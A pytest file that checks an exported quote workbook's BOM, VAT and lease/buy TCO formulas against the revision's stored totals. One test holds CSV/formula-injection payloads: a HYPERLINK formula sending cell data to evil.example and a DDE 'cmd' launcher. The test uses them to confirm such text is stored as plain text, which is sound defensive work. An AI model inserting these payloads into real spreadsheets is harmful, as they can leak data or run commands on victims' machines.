"""The workbook finance can audit (issue 18, issue 13 item 9).

The total cells hold formulas (read with openpyxl), and evaluating those
formulas with an independent engine (the ``formulas`` package, a Python
implementation of Excel's calculation) gives the revision's frozen totals, the
figures the proposal PDF prints, to the cent.  Changing a quantity in the
workbook recomputes the totals.  Text that looks like a formula stays text.
"""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from documents.exports import revision_workbook
from documents.pdf.sample import sample_quote_create
from documents.workbook import result_rows

formulas = pytest.importorskip("formulas")

CENT = Decimal("0.01")
pytestmark = pytest.mark.django_db


def evaluate(content: bytes, tmp_path, name="book.xlsx") -> dict[str, Decimal | str]:
    """Every cell of the workbook as the ``formulas`` engine computes it: {"BOM!I20": value}."""
    path = tmp_path / name
    path.write_bytes(content)
    solution = formulas.ExcelModel().loads(str(path)).finish().calculate()
    out = {}
    for key, ranges in solution.items():
        if "!" not in key or ":" in key.split("!")[1]:
            continue
        sheet, cell = key.split("]", 1)[1].split("!")
        value = ranges.value[0, 0]
        if isinstance(value, (int, float)) and not isinstance(value, bool):
            value = Decimal(str(value))
        out[f"{sheet.rstrip(chr(39)).upper()}!{cell}"] = value
    return out


def cents(value) -> Decimal:
    return Decimal(value).quantize(CENT)


def label_rows(sheet, column="D") -> dict[str, int]:
    return {str(c.value): c.row for c in sheet[column] if isinstance(c.value, str)}


@pytest.fixture
def revision(engineer):
    return sample_quote_create(by=engineer, language="en")  # 16 × A3 with a 5 % discount


def test_total_cells_are_formulas_that_evaluate_to_the_revisions_totals(revision, tmp_path):
    content = revision_workbook(revision)
    book = load_workbook(io.BytesIO(content))
    bom = book["BOM"]
    rows = label_rows(bom)
    for label in (
        "List total",
        "Net total excluding VAT",
        "Discount against the list total",
        "VAT",
        "Total including VAT",
        "Capex",
    ):
        assert str(bom[f"I{rows[label]}"].value).startswith("="), label
    assert bom["I2"].value == "=ROUND(E2*G2*(1-H2),2)"
    tco_sheet = book["TCO yearly"]
    col = {c.value: c.column_letter for c in tco_sheet[1]}
    buy_cum, buy_cost, lease_cum = col["Buy: cumulative"], col["Buy: cost"], col["Lease: cumulative"]
    assert tco_sheet[f"{buy_cum}4"].value == f"={buy_cum}3+{buy_cost}4"
    assert tco_sheet[f"{buy_cost}2"].value == f"=SUM(B2:{col['Buy: residual value (servers sold)']}2)"

    values = evaluate(content, tmp_path)
    lines = list(revision.lines.order_by("position"))
    for x, line in enumerate(lines, start=2):
        if line.price_on_request and not line.unit_price:  # no amount: blank, "Price on request" beside it
            assert f"BOM!I{x}" not in values and bom[f"G{x}"].value == "Price on request"
            continue
        assert cents(values[f"BOM!I{x}"]) == line.line_total
    assert cents(values[f"BOM!I{rows['List total']}"]) == revision.list_total
    assert cents(values[f"BOM!I{rows['Net total excluding VAT']}"]) == revision.net_total
    assert cents(values[f"BOM!I{rows['Discount against the list total']}"]) == -revision.discount_amount
    assert cents(values[f"BOM!I{rows['Capex']}"]) == revision.capex_total
    # VAT as the proposal states it: 13 % on goods, 6 % on services (财政部 税务总局 海关总署公告
    # 2019 年第 39 号), each on its net after the quote discount; computed here from the lines.
    from tests.quotes.test_proposal_editions import expected_vat

    net, vat, gross = expected_vat(revision)
    assert cents(values[f"BOM!I{rows['VAT']}"]) == vat > 0
    assert cents(values[f"BOM!I{rows['Total including VAT']}"]) == gross == net + vat
    assert cents(values[f"INPUTS!B{result_rows()['gross']}"]) == gross
    tco = revision.result_json["tco"]
    for year, row in enumerate(tco["yearly"], start=2):
        assert cents(values[f"TCO YEARLY!{buy_cum}{year}"]) == Decimal(row["buy_cumulative"])
        assert cents(values[f"TCO YEARLY!{lease_cum}{year}"]) == Decimal(row["lease_cumulative"])
        assert cents(values[f"TCO YEARLY!{col['Lease: cost']}{year}"]) == Decimal(row["lease_cost"])
    at = result_rows()
    assert cents(values[f"INPUTS!B{at['tco_buy']}"]) == revision.tco_buy_total == Decimal(tco["buy_total"])
    assert (
        cents(values[f"INPUTS!B{at['tco_lease']}"]) == revision.tco_lease_total == Decimal(tco["lease_total"])
    )
    assert cents(values[f"INPUTS!B{at['npv_buy']}"]) == Decimal(tco["npv_buy"])
    assert cents(values[f"INPUTS!B{at['npv_lease']}"]) == Decimal(tco["npv_lease"])
    # The values written beside the formulas are the same (readers that do not calculate see them).
    cached = load_workbook(io.BytesIO(content), data_only=True)
    assert cents(cached["BOM"][f"I{rows['Net total excluding VAT']}"].value) == revision.net_total
    assert cents(cached["Inputs"][f"B{at['npv_buy']}"].value) == Decimal(tco["npv_buy"])


def test_changing_a_quantity_or_a_rate_recomputes(revision, tmp_path):
    book = load_workbook(io.BytesIO(revision_workbook(revision)))
    bom = book["BOM"]
    rows = label_rows(bom)
    server = next(line for line in revision.lines.order_by("position") if line.category == "server")
    x = server.position + 1
    assert bom[f"E{x}"].value == float(server.quantity)
    bom[f"E{x}"].value = float(server.quantity + 1)  # one more server
    inputs = book["Inputs"]
    inputs["B3"].value = 0.17  # the goods rate raised to 17 % (row 3: "VAT rate on goods")
    assert inputs["A3"].value == "VAT rate on goods"
    out = io.BytesIO()
    book.save(out)
    values = evaluate(out.getvalue(), tmp_path, "changed.xlsx")
    # Independently: one more server at its unit price, less the 5 % quote discount on capex lines.
    extra = (server.unit_price * (1 - server.discount)).quantize(CENT)
    discount = revision.discount
    capex_lines = sum(
        (line.line_total for line in revision.lines.all() if line.category in ("server", "switch", "optics",
         "rack", "install", "other")), Decimal("0"),
    )  # fmt: skip
    quote_discount_before = (capex_lines * discount).quantize(CENT)
    quote_discount_after = ((capex_lines + extra) * discount).quantize(CENT)
    net = revision.net_total + extra - (quote_discount_after - quote_discount_before)
    assert cents(values[f"BOM!I{rows['Net total excluding VAT']}"]) == net
    # Installation (a construction service, after its share of the discount) stays at its rate (9 %:
    # proposals/terms.py VAT_RATES, 财税〔2016〕36 号), support and operations at 6 %; the goods, one
    # server more, at the new 17 %.
    from proposals.terms import terms_for, vat_rate

    terms = terms_for(revision.quote)
    installation = sum(
        (line.line_total - (line.line_total * discount).quantize(CENT) for line in revision.lines.all()
         if line.category == "install"),
        Decimal("0"),
    )  # fmt: skip
    services = sum(
        (line.line_total for line in revision.lines.all() if line.category in ("software", "om")),
        Decimal("0"),
    )
    vat = (
        ((net - installation - services) * Decimal("0.17")).quantize(CENT)
        + (installation * vat_rate(terms, "installation")).quantize(CENT)
        + (services * vat_rate(terms, "services")).quantize(CENT)
    )
    assert cents(values[f"BOM!I{rows['VAT']}"]) == vat
    assert cents(values[f"BOM!I{rows['Total including VAT']}"]) == net + vat
    # The TCO follows the capex.
    capex = revision.capex_total + extra - (quote_discount_after - quote_discount_before)
    assert cents(values["TCO YEARLY!B2"]) == capex


def test_text_that_looks_like_a_formula_is_written_as_text(revision):
    hostile = {
        "description_en": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "note": "+cmd|' /C calc'!A0",
        "sku": "@SUM(1+1)",
        "unit": "-2+3",
    }
    line = revision.lines.order_by("position").first()
    for key, value in hostile.items():
        setattr(line, key, value)
    line.save()
    book = load_workbook(io.BytesIO(revision_workbook(revision)))
    bom = book["BOM"]
    header = {c.value: c.column_letter for c in bom[1]}
    cells = {
        "description_en": bom[f"{header['Description']}2"],
        "note": bom[f"{header['Note']}2"],
        "sku": bom[f"{header['SKU']}2"],
        "unit": bom[f"{header['Unit']}2"],
    }
    for key, cell in cells.items():
        assert cell.data_type == "s" and cell.value == hostile[key], key
    # Every formula in the workbook is one the workbook wrote (none came from text).
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert not any(bad in str(cell.value) for bad in ("HYPERLINK", "cmd", "@SUM")), cell


def honest_lease_revision(engineer):
    """The reference plan with every lease term the engine models switched on (issue 16): software and
    support on both sides, O&M included in the lease, a residual value with fractional cents."""
    import dataclasses

    from configurator.engine.plan import plan
    from configurator.engine.serialize import plan_to_dict
    from configurator.io.requests import request_to_inline
    from documents.pdf.sample import _prices, sample_request
    from quotes.services.quotes import quote_create_from_configuration

    request = sample_request("8p8d")
    commercial = dataclasses.replace(
        request.commercial,
        quote_discount=Decimal("0.05"),
        residual_value_fraction=Decimal("0.1234567"),
        lease_includes_om=True,
        software_support_per_year=Decimal("500000"),
    )
    request = dataclasses.replace(request, commercial=commercial)
    resolved = request_to_inline(request)
    quote = quote_create_from_configuration(
        by=engineer,
        customer="Example Bank",
        title="Lease terms",
        language="en",
        discount="0.05",
        request_json=dict(resolved),
        resolved_json=resolved,
        result_json=plan_to_dict(plan(request)),
        prices_json=_prices(request),
        usd_rate=Decimal(str(commercial.usd_rate)),
        currency=commercial.currency,
    )
    return quote.revisions.order_by("index").first(), commercial


SHARE = "Residual value (share of the servers' net price)"


def test_every_lease_term_of_the_engine_is_an_input_and_recomputes(engineer, tmp_path):
    revision, c = honest_lease_revision(engineer)
    tco = revision.result_json["tco"]
    content = revision_workbook(revision)
    book = load_workbook(io.BytesIO(content))
    inputs = book["Inputs"]
    row = {str(cell.value): cell.row for cell in inputs["A"] if isinstance(cell.value, str)}
    assert inputs[f"B{row['Lease includes O&M (1 = yes, 0 = no)']}"].value == 1
    assert inputs[f"B{row['Lease includes electricity (1 = yes, 0 = no)']}"].value == 0
    assert inputs[f"B{row[SHARE]}"].value == 0.1234567

    values = evaluate(content, tmp_path)
    at = result_rows()
    # Independently, from the request (16 servers at 3,000,000; 5 % quote discount; 3 years):
    servers_net = (16 * Decimal(3_000_000) * Decimal("0.95")).quantize(CENT)  # 45,600,000.00
    residual = (servers_net * Decimal("0.1234567")).quantize(CENT)  # 5,629,625.52
    capex = Decimal(tco["capex"]["total"])
    annual = tco["annual"]
    om, software, electricity = (Decimal(annual[k]) for k in ("om", "software_support", "electricity"))
    assert software == 500000 and om == 4_000_000
    buy_year = om + software + electricity + Decimal(annual["colocation"])
    lease_year = 16 * Decimal(125_000) * 12 + software + electricity + Decimal(annual["colocation"])  # no O&M
    buy_total = capex + 3 * buy_year - residual
    lease_total = capex - servers_net + 3 * lease_year
    assert cents(values[f"INPUTS!B{row['Residual value at the end of the horizon']}"]) == residual
    assert (
        cents(values[f"INPUTS!B{row['Lease: network, racks, installation (month 0)']}"])
        == capex - servers_net
    )
    assert cents(values[f"INPUTS!B{at['tco_buy']}"]) == buy_total == Decimal(tco["buy_total"])
    assert cents(values[f"INPUTS!B{at['tco_lease']}"]) == lease_total == Decimal(tco["lease_total"])
    # NPV (monthly discounting, residual at the last month), independently in Decimal.
    i = (1 + c.discount_rate) ** (Decimal(1) / 12) - 1
    annuity = (1 - (1 + i) ** -36) / i
    npv_buy = (capex + buy_year / 12 * annuity - residual * (1 + i) ** -36).quantize(CENT)
    npv_lease = (capex - servers_net + lease_year / 12 * annuity).quantize(CENT)
    assert cents(values[f"INPUTS!B{at['npv_buy']}"]) == npv_buy == Decimal(tco["npv_buy"])
    assert cents(values[f"INPUTS!B{at['npv_lease']}"]) == npv_lease == Decimal(tco["npv_lease"])
    cached = load_workbook(io.BytesIO(content), data_only=True)["Inputs"]
    assert cents(cached[f"B{at['npv_lease']}"].value) == npv_lease

    # A reviewer switches O&M out of the lease and drops the residual value: both sides recompute.
    inputs[f"B{row['Lease includes O&M (1 = yes, 0 = no)']}"].value = 0
    inputs[f"B{row[SHARE]}"].value = 0
    out = io.BytesIO()
    book.save(out)
    changed = evaluate(out.getvalue(), tmp_path, "changed.xlsx")
    assert cents(changed[f"INPUTS!B{at['tco_lease']}"]) == lease_total + 3 * om
    assert cents(changed[f"INPUTS!B{at['tco_buy']}"]) == buy_total + residual
    npv_lease_with_om = (capex - servers_net + (lease_year + om) / 12 * annuity).quantize(CENT)
    assert cents(changed[f"INPUTS!B{at['npv_lease']}"]) == npv_lease_with_om


def test_a_plan_stored_before_the_lease_terms_still_gives_a_workbook(revision, tmp_path):
    """Plans frozen before issue 16 have no lease_includes, lease_upfront or the new yearly columns:
    the workbook takes the flags from the request (not included) and a residual share of 0."""
    tco = revision.result_json["tco"]
    for key in ("lease_includes", "lease_upfront", "residual_value"):
        tco.pop(key)
    for key in ("lease_om", "lease_software_support"):
        tco["annual"].pop(key)
    for row in tco["yearly"]:
        for key in ("buy_residual", "lease_upfront", "lease_om", "lease_software_support"):
            row.pop(key)
    revision.resolved_json["commercial"].pop("lease_includes_om")
    revision.resolved_json["commercial"].pop("residual_value_fraction")
    revision.save()
    content = revision_workbook(revision)
    inputs = load_workbook(io.BytesIO(content))["Inputs"]
    row = {str(cell.value): cell.row for cell in inputs["A"] if isinstance(cell.value, str)}
    assert inputs[f"B{row['Lease includes O&M (1 = yes, 0 = no)']}"].value == 0
    assert inputs[f"B{row[SHARE]}"].value == 0
    values = evaluate(content, tmp_path)
    # The sample (the seeded price list, 16 × A3 8P8D): capex = 0.95 × (servers 48,000,000 + switches
    # 2,854,000 [2 LingQu × 800,000, 3 RoCE access × 350,000, 4 CE6866 × 45,000, 2 × 1GE 12,000] + optics
    # 2,465,960 [512 × 4,500 400G, 152 × 400 SFP28, 332 fibre × 300, 52 Cat6 × 30] + racks 480,000 +
    # installation 480,000 + gateways 120,000 + storage 32,000) = 51,710,362.00, servers 48,000,000 less
    # 5 %; rent 24,000,000, O&M 4,000,000, software and support 800,000, electricity 1,611,310.90 a year
    # (the plan's annual figure), no colocation.
    capex = (
        (Decimal("48000000") + 2 * 800_000 + 3 * 350_000 + 4 * 45_000 + 2 * 12_000)
        + (512 * 4500 + 152 * 400 + 332 * 300 + 52 * 30)
        + 480_000
        + 480_000
        + 120_000
        + 32_000
    )
    capex = cents(capex * Decimal("0.95"))
    assert capex == Decimal("51710362.00")
    yearly = 24_000_000 + 4_000_000 + 800_000 + Decimal("1611310.90")
    lease = capex - Decimal("45600000.00") + 3 * yearly
    assert cents(values[f"INPUTS!B{result_rows()['tco_lease']}"]) == lease == Decimal("97344294.70")
